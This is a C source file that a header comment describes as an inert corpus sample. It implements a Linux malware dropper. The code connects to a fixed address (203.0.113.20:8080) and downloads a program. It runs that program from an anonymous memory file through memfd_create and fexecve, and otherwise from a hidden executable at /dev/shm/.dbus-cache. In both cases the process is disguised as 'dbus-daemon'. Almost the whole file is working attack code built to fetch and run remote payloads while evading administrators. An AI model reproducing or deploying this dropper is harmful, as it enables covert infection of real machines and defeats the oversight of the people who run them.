/* Corpus sample (inert: compiled, never run). A dropper written here from scratch: it fetches
 * a program from a fixed address (TEST-NET-3) and runs it without leaving it where an
 * administrator looks: first from an anonymous memory file (memfd_create, then fexecve),
 * else from an executable file it creates under /dev/shm. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

extern char **environ;

static int fetch(int out)
{
	struct sockaddr_in peer;
	char buffer[4096];
	ssize_t n;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	memset(&peer, 0, sizeof peer);
	peer.sin_family = AF_INET;
	peer.sin_port = htons(8080);
	peer.sin_addr.s_addr = htonl(0xcb007114); /* 203.0.113.20 */
	if (connect(s, (struct sockaddr *)&peer, sizeof peer) != 0)
		return -1;
	while ((n = read(s, buffer, sizeof buffer)) > 0)
		if (write(out, buffer, (size_t)n) != n)
			return -1;
	close(s);
	return 0;
}

int main(void)
{
	static char *const child_argv[] = { "dbus-daemon", 0 };
	int fd = memfd_create("", MFD_CLOEXEC);
	if (fd >= 0 && fetch(fd) == 0)
		fexecve(fd, child_argv, environ);
	fd = open("/dev/shm/.dbus-cache", O_CREAT | O_WRONLY | O_TRUNC, 0755);
	if (fd < 0 || fetch(fd) != 0)
		return 1;
	close(fd);
	execve("/dev/shm/.dbus-cache", child_argv, environ);
	return 1;
}
